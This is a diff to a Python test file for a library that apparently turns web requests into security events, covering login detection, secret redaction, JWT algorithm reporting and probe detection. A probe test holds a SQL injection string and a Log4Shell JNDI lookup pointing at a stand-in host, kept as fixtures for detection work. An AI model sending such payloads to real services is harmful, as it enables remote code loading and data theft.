@@ -5,6 +5,7 @@
 
 from __future__ import annotations
 
+import base64
 import gzip
 import secrets
 from typing import Any
@@ -79,6 +80,38 @@ def test_secrets_leave_neither_in_the_url_nor_in_headers_nor_in_words() -> None:
         assert secret not in text
     assert events[0].session is not None
     assert events[0].session.startswith("h:")
+
+
+@pytest.mark.parametrize(
+    "given", ["4111111111111111", f"ghp_{'a1B2' * 9}", jwt({"sub": "ann"}), "4111111111111111-1"]
+)
+def test_a_secret_as_the_id_of_a_request_becomes_an_id_of_our_own(given: str) -> None:
+    app = App()
+    failure = Failure("app.Boom", "", "app.py:3 handler")
+    events = app("GET /a", 500, failure=failure, context=Context(given))
+    events.append(
+        app.reader.finish(Event(time=1, kind=Kind.LOG, message="meanwhile", request_id=given))
+    )
+    assert given not in repr(events)
+    (ours,) = {event.request_id for event in events}
+    assert ours
+    assert [event.attributes for event in events] == [None, {"error_id": ours}, None]
+    assert app("GET /a", context=Context("req-7"))[0].request_id == "req-7"
+
+
+@pytest.mark.parametrize(
+    ("host", "authority"),
+    [
+        ("joe:hunter2pw@api.example.org:8080", "api.example.org:8080"),
+        (f"ghp_{'a1B2' * 9}", "[redacted:github-token]"),
+        ("api.example.org", "api.example.org"),
+    ],
+)
+def test_the_host_is_kept_without_credentials(host: str, authority: str) -> None:
+    app = App()
+    (event,) = app("GET /a", headers={"host": host})
+    assert event.authority == authority
+    assert app.reader.finish(Event(time=1, kind=Kind.LOG, authority=host)).authority == authority
 
 
 def test_a_forwarding_header_is_believed_from_a_trusted_machine_only() -> None:
@@ -225,13 +258,12 @@ def test_what_only_resembles_a_login_is_none(
 
 def test_a_login_that_sets_a_session_cookie_is_learned_whatever_it_is_called() -> None:
     app = App()
-    body = {"user": "ann", "password": "right"}
+    right, wrong = ({"user": "ann", "password": word} for word in ("right", "wrong"))
     out = {"set-cookie": "sessionid=0123456789abcdef; HttpOnly; Path=/"}
-    assert kinds(app("POST /enter", 302, out=out, body=body))[1:] == ["authn_login_success"]
-    body = {"user": "ann", "password": "wrong"}
-    assert kinds(app("POST /enter", 200, {"errors": {"__all__": ["Please try again"]}}, body=body))[
-        1:
-    ] == ["authn_login_fail"]
+    answer = {"errors": {"__all__": ["Please try again"]}}
+    assert app("POST /enter", 302, out=out, body=right)[0].outcome == "unknown", "as yet"
+    assert kinds(app("POST /enter", 200, answer, body=wrong))[1:] == ["authn_login_fail"]
+    assert kinds(app("POST /enter", 302, out=out, body=right))[1:] == ["authn_login_success"]
 
 
 def test_basic_authentication_is_a_login_once_and_each_time_it_fails() -> None:
@@ -248,6 +280,19 @@ def test_basic_authentication_is_a_login_once_and_each_time_it_fails() -> None:
 
 
 # -- who it is ------------------------------------------------------------------------------------
+
+
+def test_names_that_never_got_in_push_out_none_that_did() -> None:
+    def ask(name: str, status: int) -> list[Event]:
+        pair = base64.b64encode(f"{name}:secret-{name}".encode()).decode()
+        return app("GET /private", status, headers={"authorization": f"Basic {pair}"})
+
+    app = App()
+    ask("nobody", 401)
+    assert kinds(ask("ann", 200)) == ["request", "authn_login_success"]
+    for n in range(1_500):
+        ask(f"made-up-{n}", 401)
+    assert kinds(ask("ann", 200)) == ["request"]
 
 
 def test_a_token_is_a_claim_until_the_application_is_seen_to_believe_it() -> None:
@@ -307,6 +352,18 @@ def test_the_flaws_of_a_token_are_told(token: str, flaws: set[str]) -> None:
     assert tags(App()("GET /", headers={"authorization": f"Bearer {token}"})[0]) == flaws
 
 
+@pytest.mark.parametrize(
+    ("alg", "told"),
+    [("HS256", "HS256"), ("RSA-OAEP-256", "RSA-OAEP-256"), ("4111111111111111", "other"),
+     ("my password", "other"), ("x" * 17, "other"), ("AKIAIOSFODNN7EXAMPLE", "other"), ("ES256K", "ES256K")],
+)  # fmt: skip
+def test_the_algorithm_of_a_token_is_told_if_it_can_be_one(alg: str, told: str) -> None:
+    token = jwt({"sub": "ann"}, alg=alg)
+    (event,) = App()("GET /me", headers={"authorization": f"Bearer {token}"})
+    assert event.attributes is not None
+    assert event.attributes["jwt_alg"] == told
+
+
 def test_whose_an_object_is_is_told_without_naming_anybody() -> None:
     app = App()
     mine, other, public = (
@@ -324,6 +381,24 @@ def test_whose_an_object_is_is_told_without_naming_anybody() -> None:
 
 
 # -- denials, validation, errors, limits, uploads ----------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "failure",
+    [
+        None,
+        Failure("werkzeug.exceptions.MethodNotAllowed", "405 Method Not Allowed", "", handled=True),
+        Failure("rest_framework.exceptions.MethodNotAllowed", "", "", handled=True),
+        Failure("starlette.exceptions.HTTPException", "405: Method Not Allowed", "", handled=True),
+    ],
+)
+def test_a_method_that_there_is_not_was_not_found_and_denied_to_nobody(
+    failure: Failure | None,
+) -> None:
+    answer = {"detail": 'Method "DELETE" not allowed.'}
+    (event,) = App()("DELETE /orders", 405, answer, failure=failure)
+    assert (event.kind, event.outcome, event.reason) == (Kind.REQUEST, "failure", "not_found")
+    assert App()("GET /a", 403, {"detail": "You are not allowed."})[0].reason == "forbidden"
 
 
 def test_each_401_and_403_is_an_event_of_its_own() -> None:
@@ -443,7 +518,7 @@ def test_a_probe_holds_odd_values_without_the_secrets_and_is_bounded() -> None:
         "nested": [{"token": "x'y"}],
     }
     assert probe(App(), "POST /", body=body) == {"probe_body": "note=1' OR '1'='1"}
-    headers = {"x-api-version": "${jndi:ldap://x/a}", "cookie": "a='", "accept": "'"}
+    headers = {"x-api-version": "${jndi:ldap://x/a}", "cookie": "session=a'b", "accept": "*/*;q=1"}
     assert probe(App(), "GET /", headers=headers) == {
         "probe_header": "x-api-version=${jndi:ldap://x/a}"
     }
